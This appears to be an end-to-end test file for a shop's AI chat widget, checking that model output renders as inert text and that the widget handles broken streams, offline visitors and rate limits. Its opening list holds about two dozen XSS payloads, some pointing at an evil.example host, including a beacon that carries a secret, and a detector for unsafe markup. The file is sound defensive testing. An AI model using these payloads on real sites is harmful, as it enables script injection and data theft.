import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { type AddressInfo, createServer } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, askAndRead, composer, eventually, launcher, openAnd, rowsOf, thread, useConfab } from './browser.ts';
import { sharedData } from './fakes/shared-data.ts';
import { makeDataDir, question, type RelayProcess, spawnRelay } from './relay.ts';

const { here, arrive, say } = useConfab();

const QUESTION = 'What does the Kittiwake Jumper cost?';
const READ = 'costs €119';

const own = [
  '<script>alert(1)</script>',
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name="card"></form>',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '[x](javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/)',
  '[x](/\\evil.example/)',
  '[x](http://shop.example@evil.example/)',
  '[x](https://evil.example/" onmouseover="alert(1))',
  '![x](https://evil.example/beacon.png?secret=1)',
  '<javascript:alert(1)>',
  '[1]: javascript:alert(1)',
  '[<img src=x onerror=alert(1)>](https://evil.example/)',
  '**<b onclick=alert(1)>bold</b>**',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= 1 %>',
  '\u202egnp.exe\u202c \u0000 \ud83d \ufffe',
];
const markdown: { vectors: string[] } | undefined = sharedData('own/security/xss_markdown.json');
const html: string[] | undefined = sharedData('fetched/security/xss_html.json.gz');

describe('whatever the model writes stays text', () => {
  it('our own vectors', () => expectInert(own));
  it.skipIf(!markdown)('vectors in Markdown (needs ../shared/data)', () => expectInert(markdown?.vectors ?? []));
  it.skipIf(!html)('vectors in HTML (needs ../shared/data)', () => expectInert(html ?? []));

  it('and so do the words of visitors, and the titles of pages', async () => {
    const word = `zq${randomUUID().slice(0, 8)}`;
    const hostile = `<img src=x onerror=alert(1)> ${word}`;
    const document = {
      externalId: word,
      type: 'page',
      url: `${here.relay.url}/demo/faq.html?"onclick="alert(1)`,
    } as const;
    const page = { title: hostile, text: `All about ${word}: it is blue.`, updatedAt: '2026-01-01T00:00:00Z' };
    await here.relay.demo.plugin.sync({ upsert: [{ ...document, ...page }] });
    const tab = await arrive();
    await openAnd(tab.page, 'Accept');
    say({ pieces: [`All about ${word} [1].`] });
    await askAndRead(tab.page, hostile, `All about ${word}`);
    expect(await thread(tab.page).getByText(hostile).count()).toBe(2); // in the question, and in the list of sources
    expect(await suspects(tab.page)).toEqual([]);
    await here.relay.demo.plugin.sync({ delete: [word] });
  });
});

describe('when an answer breaks off', () => {
  it.each([
    ['Accept', 'error'],
    ['Decline', 'cut'],
  ] as const)('(%s, %s) the visitor is told, keeps every word, and can ask again', async (decision, ending) => {
    const { page } = await arrive();
    const broken = Promise.withResolvers<void>();
    say({ pieces: ['Half an answer ', 'and'], ending, before: piece => (piece > 0 ? broken.promise : undefined) });
    await openAnd(page, decision);
    await ask(page, QUESTION);
    await thread(page).getByText('Half an answer').waitFor();
    await composer(page).fill('And in green?'); // typing goes on while an answer streams
    await composer(page).press('Enter');
    broken.resolve();
    await page.getByRole('button', { name: 'Try again' }).waitFor();
    await thread(page).getByText('Half an answer').waitFor();
    await thread(page).getByText(QUESTION).waitFor();
    expect(await composer(page).inputValue()).toBe('And in green?');

    say({ pieces: ['It ', 'costs €119 [1].'] });
    await page.getByRole('button', { name: 'Try again' }).click();
    await thread(page).getByText(READ).waitFor();
    expect(await thread(page).getByText('Half an answer').count()).toBe(0);
    expect(await thread(page).getByText(QUESTION).count()).toBe(1);
    await composer(page).press('Enter');
    await thread(page).getByText('And in green?').waitFor();
    await eventually(() => thread(page).getByText(READ).count()).toBe(2);
  });

  it('because the visitor stops it, the provider is hung up on, and what was said is kept', async () => {
    const { page } = await arrive();
    say({ pieces: ['Half an answer '], ending: 'hang' });
    await openAnd(page, 'Accept');
    await ask(page, QUESTION);
    await thread(page).getByText('Half an answer').waitFor();
    await page.getByRole('button', { name: 'Stop the answer' }).click();
    await here.vendor.requests.at(-1)?.hungUp;
    await thread(page).getByText('This answer was cut short.').waitFor();
    const kept = async () => (await rowsOf(here.relay, 'Message')).map(row => JSON.parse(row)).at(-1);
    await eventually(kept).toMatchObject({ text: 'Half an answer ', status: 'interrupted' });

    await page.reload();
    await launcher(page).click();
    await thread(page).getByText('This answer was cut short.').waitFor();
    say({ pieces: ['It costs €119 [1].'] });
    await page.getByRole('button', { name: 'Try again' }).click();
    await thread(page).getByText(READ).waitFor();
  });
});

it('when the provider is down, the shop’s own pages answer', async () => {
  const { page } = await arrive();
  say({ status: 500 });
  await openAnd(page, 'Decline');
  await askAndRead(page, QUESTION, '€119');
  await thread(page)
    .getByRole('link', { name: /Kittiwake/ })
    .first()
    .waitFor();
  expect(await page.getByRole('button', { name: 'Try again' }).count()).toBe(0);
});

it('when the visitor is offline, they read so, and the question waits for them', async () => {
  const { page } = await arrive();
  await openAnd(page, 'Decline');
  await page.context().setOffline(true);
  await ask(page, QUESTION);
  await thread(page).getByText('You are offline').waitFor();
  expect(await composer(page).inputValue()).toBe(QUESTION);
  await page.context().setOffline(false);
  await composer(page).press('Enter');
  await thread(page).getByText(READ).waitFor();
  expect(await thread(page).getByText(QUESTION).count()).toBe(1);
});

describe('a relay as it is started, without any key', () => {
  const its = {} as { dataDir: string; env: NodeJS.ProcessEnv; relay: RelayProcess };
  beforeAll(async () => {
    its.dataDir = await makeDataDir();
    its.env = { PORT: String(await freePort()), CONFAB_RATE_LIMIT: 'on' };
    its.relay = await spawnRelay(its);
  }, 120_000);
  afterAll(async () => {
    await its.relay?.stop('SIGKILL');
    await rm(its.dataDir, { recursive: true, force: true });
  });
  const visit = () => arrive({ url: `${its.relay.url}/demo/` });

  it('answers out of the shop’s pages, and names them', async () => {
    const { page } = await visit();
    await openAnd(page, 'Decline');
    await askAndRead(page, QUESTION, '€119');
    await thread(page)
      .getByRole('link', { name: /Kittiwake/ })
      .first()
      .waitFor();
  });

  it('says so when a visitor asks too much at once, and keeps the question', async () => {
    const { page } = await visit();
    await openAnd(page, 'Accept');
    await askAndRead(page, QUESTION, '€119');
    const [{ value: conversationId = '' } = {}] = await page.context().cookies();
    const { widget } = its.relay.demo;
    let status = 200;
    // On the way there the relay wants a proof, which this visitor's robot does not have.
    for (let turns = 1; status !== 429 && turns < 40; turns++) {
      ({ status } = await widget.turn(question('How heavy is it?', { conversationId })));
    }
    expect(status).toBe(429);
    await ask(page, 'And in green?');
    await thread(page).getByText('That was a lot of questions at once.').waitFor();
    expect(await composer(page).inputValue()).toBe('And in green?');
  });

  it('that dies is said to be away; when it is back, so are the thread and the question', async () => {
    const { page } = await visit();
    await openAnd(page, 'Accept');
    await askAndRead(page, QUESTION, '€119');
    await its.relay.stop('SIGKILL');
    await ask(page, 'How heavy is the Kittiwake Jumper?');
    await thread(page).getByText('The assistant cannot be reached at the moment.').waitFor();
    expect(await composer(page).inputValue()).toBe('How heavy is the Kittiwake Jumper?');

    its.relay = await spawnRelay(its);
    await composer(page).press('Enter');
    const answers = thread(page).getByText('Here is what this shop’s pages say');
    await eventually(() => answers.count()).toBe(2);
    await page.reload();
    await launcher(page).click();
    await eventually(() => answers.count()).toBe(2);
    expect(await thread(page).getByText('How heavy is the Kittiwake Jumper?').count()).toBe(1);
  }, 120_000);
});

/** Lets the model say all of these in a few answers, and looks at what has become of them, also after a reload. */
async function expectInert(vectors: readonly string[]): Promise<void> {
  expect(vectors.length).toBeGreaterThan(20);
  const { page, requests } = await arrive();
  const navigations: string[] = [];
  await openAnd(page, 'Accept');
  page.on('framenavigated', frame => navigations.push(frame.url()));
  const batches = inBatches(vectors, 12_000);
  for (const [at, batch] of batches.entries()) {
    say({ pieces: [...batch.flatMap(inHalves), `\n\nThat was batch ${at}.`] });
    await askAndRead(page, 'Say it.', `That was batch ${at}.`);
    expect(await suspects(page)).toEqual([]);
  }
  expect(navigations).toEqual([]);

  await page.reload();
  await launcher(page).click();
  await thread(page)
    .getByText(`That was batch ${batches.length - 1}.`)
    .waitFor();
  expect(await suspects(page)).toEqual([]);
  expect(new Set(requests.map(url => new URL(url).origin))).toEqual(new Set([here.relay.url]));
}

/** Whatever in the widget could run, load, or lead anywhere but to a web page in a new tab. */
const suspects = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const harmless = 'A B BLOCKQUOTE BR BUTTON CODE DIV EM H4 I LI OL P PRE SPAN STRONG SUP UL'.split(' ');
    const root = document.querySelector('confab-chat')?.shadowRoot;
    const inThread = [...(root?.querySelectorAll('[role=log] *') ?? [])];
    const links = [...(root?.querySelectorAll('a') ?? [])];
    const attributes = inThread.flatMap(element => [...element.attributes]);
    return [
      ...inThread.filter(({ tagName }) => !harmless.includes(tagName)).map(element => element.outerHTML),
      ...attributes.filter(({ name }) => /^on|^style$|src|action|:href/i.test(name)).map(({ name }) => name),
      ...links
        .filter(link => !/^https?:$/.test(link.protocol) || link.target !== '_blank' || !/noopener/.test(link.rel))
        .map(link => link.outerHTML),
      ...links.filter(link => link.username || link.password).map(link => link.outerHTML),
    ];
  });

function inBatches(vectors: readonly string[], lengthMax: number): string[][] {
  const batches: string[][] = [[]];
  let length = 0;
  for (const vector of vectors) {
    length += vector.length;
    if (length > lengthMax) batches.push([]);
    if (length > lengthMax) length = vector.length;
    batches.at(-1)?.push(vector);
  }
  return batches;
}

/** As a stream may cut it: what is half there must be as harmless as the whole. */
function inHalves(vector: string): string[] {
  const middle = Math.ceil(vector.length / 2);
  return ['\n\n', vector.slice(0, middle), vector.slice(middle)].filter(part => part !== '');
}

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise(resolve => server.close(resolve));
  return port;
}
